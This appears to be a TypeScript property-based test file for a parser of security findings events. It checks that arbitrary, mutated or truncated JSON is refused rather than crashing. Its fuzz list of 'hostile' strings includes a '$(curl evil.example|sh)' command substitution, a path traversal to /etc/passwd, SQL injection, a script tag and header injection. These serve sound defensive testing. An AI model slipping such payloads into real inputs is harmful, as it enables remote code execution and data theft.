import fc from 'fast-check';
import { cap } from '../../src/finding/cap.ts';
import type { Finding, Parsed, Target } from '../../src/finding/finding.ts';
import { firstFault } from '../../src/finding/json-fault.ts';
import {
  isClusterName,
  isContainerId,
  isDnsLabel,
  isDnsSubdomain,
  isImage,
  isInstanceId,
  isUid,
} from '../../src/finding/names.ts';
import { parse } from '../../src/finding/parse.ts';
import { split } from '../../src/finding/split.ts';
import { isObject, type Json, type JsonObject } from '../../src/json.ts';
import {
  auditDetail,
  coverageEvent,
  eventOf,
  malwareDetail,
  received,
  runtimeDetail,
  sequenceDetail,
} from '../builders/finding.ts';
import { runs } from '../builders/runs.ts';

const bases = [
  eventOf(runtimeDetail()),
  eventOf(auditDetail()),
  eventOf(malwareDetail()),
  eventOf(sequenceDetail()),
  coverageEvent(),
  runtimeDetail(),
];

/** Strings that have broken something somewhere. */
const hostile = fc.constantFrom(
  '../../../etc/passwd',
  '$(curl evil.example|sh)',
  "'; DROP TABLE findings; --",
  '<script>alert(1)</script>',
  'shop/web',
  '__proto__',
  '\u202egnp.exe',
  '\u001b[2J\u001b]0;x\u0007',
  'a\r\nX-Injected: 1',
  '\ud800',
  '{{7*7}}',
  '*',
  'Shop',
  'kube-system ',
  '',
);
const anything = fc.oneof(fc.jsonValue(), hostile) as fc.Arbitrary<Json>;

/** Every place in a value, as the keys that lead to it. */
const placesIn = (value: Json, at: readonly string[] = []): (readonly string[])[] => {
  const inner = value !== null && typeof value === 'object' ? Object.entries(value) : [];
  return [at, ...inner.flatMap(([key, one]) => placesIn(one as Json, [...at, key]))];
};

const replaced = (value: Json, [key, ...deeper]: readonly string[], by: Json): Json => {
  if (key === undefined) return by;
  if (Array.isArray(value)) return value.map((one, at) => (String(at) === key ? replaced(one, deeper, by) : one));
  return isObject(value) ? { ...value, [key]: replaced((value as JsonObject)[key] ?? null, deeper, by) } : value;
};

/** A real event with up to four of its parts replaced by anything at all. */
const mutated: fc.Arbitrary<Json> = fc
  .constantFrom(...bases)
  .chain((base) =>
    fc
      .array(fc.tuple(fc.constantFrom(...placesIn(base)), anything), { minLength: 1, maxLength: 4 })
      .map((changes) => changes.reduce<Json>((event, [at, by]) => replaced(event, at, by), base)),
  );

const isFine = ({ pod, workload, node, serviceAccount, image, containerId }: Target): boolean =>
  [pod, workload].every(
    (ref) => !ref || (isDnsLabel(ref.namespace) && isDnsSubdomain(ref.name) && (ref.uid === null || isUid(ref.uid))),
  ) &&
  (!node ||
    ((node.name === null || isDnsSubdomain(node.name)) &&
      (node.instanceId === null || isInstanceId(node.instanceId)))) &&
  (!serviceAccount || (isDnsLabel(serviceAccount.namespace) && isDnsSubdomain(serviceAccount.name))) &&
  (image === null || isImage(image)) &&
  (containerId === null || isContainerId(containerId));

const isSafe = (finding: Finding): boolean =>
  /^\d{12}$/.test(finding.accountId) &&
  /^[a-z0-9-]{1,32}$/.test(finding.region) &&
  /^[A-Za-z0-9-]{1,64}$/.test(finding.id) &&
  new Date(finding.updatedAt).toISOString() === finding.updatedAt &&
  Number.isSafeInteger(finding.count) &&
  finding.count >= 0 &&
  finding.severity >= 0 &&
  finding.severity <= 10 &&
  finding.targets.length > 0 &&
  finding.targets[0]?.class === finding.targetClass &&
  (finding.cluster === null || isClusterName(finding.cluster.name)) &&
  finding.targets.every(isFine);

const isSound = (result: Parsed): boolean => {
  if (result.kind === 'rejected') return result.error.code !== 'unreadable' && result.error.message.length < 2000;
  return result.kind !== 'finding' || isSafe(result.finding);
};

describe('whatever is read', () => {
  it('arbitrary text is refused or understood, never a crash', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary', maxLength: 300 }), fc.json()), (text) =>
        isSound(parse(received(text))),
      ),
      { numRuns: runs(1000) },
    );
  });

  it('arbitrary JSON is refused or understood, never a crash', () => {
    fc.assert(
      fc.property(fc.jsonValue({ maxDepth: 6 }), (value) => isSound(parse(received(JSON.stringify(value))))),
      { numRuns: runs(500) },
    );
  });

  it('of an event with anything anywhere, only names by their rules get out as names', () => {
    fc.assert(
      fc.property(mutated, (event) => isSound(parse(received(JSON.stringify(event))))),
      { numRuns: runs(1000) },
    );
  });

  it('the same input is the same result', () => {
    fc.assert(
      fc.property(mutated, (event) => {
        const text = JSON.stringify(event);
        expect(parse(received(text))).toEqual(parse(received(text)));
      }),
      { numRuns: runs(100) },
    );
  });

  it('an event cut off anywhere is refused as such', () => {
    const text = JSON.stringify(bases[0]);
    fc.assert(
      fc.property(fc.integer({ min: 1, max: text.length - 1 }), (length) => {
        expect(parse(received(text.slice(0, length)))).toMatchObject({
          kind: 'rejected',
          error: { code: 'truncated-json' },
        });
      }),
      { numRuns: runs(300) },
    );
  });
});

describe('where JSON stops being JSON', () => {
  const isJson = (text: string): boolean => {
    try {
      JSON.parse(text);
      return true;
    } catch {
      return false;
    }
  };
  const damaged = fc
    .tuple(
      fc.json(),
      fc.nat(),
      fc.nat({ max: 3 }),
      fc.oneof(
        fc.constantFrom('"', '\\', '{', '}', ',', ':', ' ', '0', '-', 'e', '.', 'u', '\n', '\u00a0', '\u0001'),
        fc.string({ maxLength: 3 }),
      ),
    )
    .map(
      ([text, at, drop, insert]) =>
        text.slice(0, at % (text.length + 1)) + insert + text.slice((at % (text.length + 1)) + drop),
    );

  it('is found exactly when the engine finds it', () => {
    fc.assert(
      fc.property(
        fc.oneof(damaged, fc.json(), fc.string({ maxLength: 20 })),
        (text) => (firstFault(text) === null) === isJson(text),
      ),
      { numRuns: runs(1000) },
    );
  });

  it('is never behind what could still have become JSON: the text up to there is not yet wrong', () => {
    fc.assert(
      fc.property(damaged, (text) => {
        const at = firstFault(text)?.at ?? 0;
        const before = firstFault(text.slice(0, at));
        return before === null || before.at === at;
      }),
      { numRuns: runs(1000) },
    );
  });
});

describe('the events in a file', () => {
  const ids = fc.array(fc.stringMatching(/^[a-f0-9]{8}$/), { minLength: 1, maxLength: 6 });
  const layouts: { readonly [name: string]: (events: readonly JsonObject[]) => string } = {
    lines: (events) => events.map((event) => JSON.stringify(event)).join('\n'),
    windows: (events) => events.map((event) => `${JSON.stringify(event)}\r\n`).join('\r\n'),
    list: (events) => JSON.stringify(events),
    'pretty list': (events) => JSON.stringify(events, null, 4),
    page: (events) => JSON.stringify({ Findings: events }, null, 1),
    'pretty documents': (events) => events.map((event) => JSON.stringify(event, null, 2)).join('\n\n'),
    'nothing between': (events) => events.map((event) => JSON.stringify(event)).join(''),
    tabs: (events) => events.map((event) => JSON.stringify(event, null, '\t')).join(' '),
  };

  it('come out one by one, in order, however the file is laid out', () => {
    fc.assert(
      fc.property(
        ids,
        fc.constantFrom(...Object.keys(layouts)),
        fc.string({ unit: 'binary' }),
        (all, layout, description) => {
          const events = all.map((id) => eventOf(runtimeDetail(undefined, { id, description })));
          const pieces = split(layouts[layout]!(events), 'in.json');
          expect(pieces.map(({ text }) => JSON.parse(text))).toEqual(JSON.parse(JSON.stringify(events)));
        },
      ),
      { numRuns: runs(200) },
    );
  });

  it('are unharmed by whatever lines stand between them', () => {
    const whole = JSON.stringify(eventOf(runtimeDetail(undefined, { id: 'broken' })));
    const oneLine = fc.string({ maxLength: 30 }).map((text) => text.replaceAll(/[\n\r\u2028\u2029]/g, ' '));
    const broken = fc.oneof(
      oneLine,
      fc.nat({ max: whole.length }).map((at) => whole.slice(0, at)),
      fc.nat({ max: whole.length }).map((at) => whole.slice(at)),
      fc.constantFrom('{', '[', '}', '"', '{"a":"', '[{'),
    );
    fc.assert(
      fc.property(ids, fc.array(fc.array(broken, { maxLength: 3 }), { minLength: 7, maxLength: 7 }), (all, between) => {
        const text = all
          .map((id, at) =>
            [...(between[at] ?? []), JSON.stringify(eventOf(runtimeDetail(undefined, { id })))].join('\n'),
          )
          .join('\n');
        const found = split(`${text}\n${between[6]?.join('\n')}`, 'in.jsonl').flatMap((piece) => {
          const result = parse(piece);
          return result.kind === 'finding' && result.finding.id !== 'broken' ? [result.finding.id] : [];
        });
        expect(found).toEqual(all);
      }),
      { numRuns: runs(300) },
    );
  });

  it('are never a crash, and no piece overlaps another', () => {
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 200 }),
          fc
            .array(fc.constantFrom('{', '}', '[', ']', '"', '\\', ',', ':', '\n', 'a', '"findings":[', '1'), {
              maxLength: 40,
            })
            .map((parts) => parts.join('')),
        ),
        (text) => {
          const pieces = split(text, 'in.json');
          expect(pieces.every((piece) => text.includes(piece.text) && piece.text !== '')).toBe(true);
          expect(pieces.every((piece) => isSound(parse(piece)))).toBe(true);
        },
      ),
      { numRuns: runs(500) },
    );
  });
});

it('a capped string is well-formed, within its limit, and begins as the string does', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary', maxLength: 60 }), fc.integer({ min: 1, max: 40 }), (text, limit) => {
      const capped = cap(text, limit);
      expect(capped.isWellFormed()).toBe(true);
      expect(capped.length).toBeLessThanOrEqual(limit);
      expect(text.toWellFormed().startsWith(text.length > limit ? capped.slice(0, -1) : capped)).toBe(true);
    }),
    { numRuns: runs(500) },
  );
});
